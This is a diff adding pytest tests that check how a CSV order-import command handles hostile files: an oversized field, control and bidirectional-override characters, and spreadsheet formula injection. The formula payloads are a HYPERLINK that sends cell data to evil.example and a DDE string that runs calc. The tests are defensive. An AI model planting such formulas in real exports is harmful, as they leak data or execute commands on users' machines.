@@ -170,3 +170,37 @@ class TestParseRows:
     def test_empty_file_has_no_header(self):
         with pytest.raises(HeaderError, match="no header row"):
             list(parse_rows([]))
+
+
+class TestHostileFiles:
+    def test_a_field_over_the_csv_size_limit_is_a_row_error_not_a_traceback(
+        self, run, db, merchant, tmp_path
+    ):
+        huge = (
+            "R-2,RE-2,10.00,EUR,2024-05-01,,,,open,a@example.com,A," + "B" * 200_000 + ",S,1,10115,Berlin,DE"
+        )
+        path = write(tmp_path, [HEADER, GOOD_ROWS[0], huge])
+        result = run("orders", "import", str(path), "--merchant", str(merchant.id))
+        assert result.exit_code == 1
+        assert "row 3" in result.output and "unreadable CSV" in result.output
+        assert receivables(db) == []
+
+    def test_control_characters_in_a_cell_are_a_row_error(self, run, db, merchant, tmp_path):
+        path = write(
+            tmp_path, [HEADER, GOOD_ROWS[0].replace("Erika,", "Eri\x00ka,").replace("Berlin", "Ber\u202elin")]
+        )
+        result = run("orders", "import", str(path), "--merchant", str(merchant.id))
+        assert result.exit_code == 1
+        assert "row 2, column first_name" in result.output and "row 2, column city" in result.output
+        assert receivables(db) == []
+
+    def test_errors_csv_never_holds_a_formula(self, run, merchant, tmp_path):
+        formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+        row = GOOD_ROWS[0].replace("R-1,", "@SUM(1+1)*cmd|' /C calc'!A0,", 1)
+        path = write(tmp_path, [HEADER + ',"' + formula.replace('"', '""') + '"', row + ",x"])
+        errors_file = tmp_path / "errors.csv"
+        run("orders", "import", str(path), "--merchant", str(merchant.id), "--errors", str(errors_file))
+        with errors_file.open(newline="", encoding="utf-8") as handle:
+            cells = [cell for line in csv.reader(handle) for cell in line]
+        assert any(formula.lower() in cell for cell in cells)  # header names are read case-insensitively
+        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
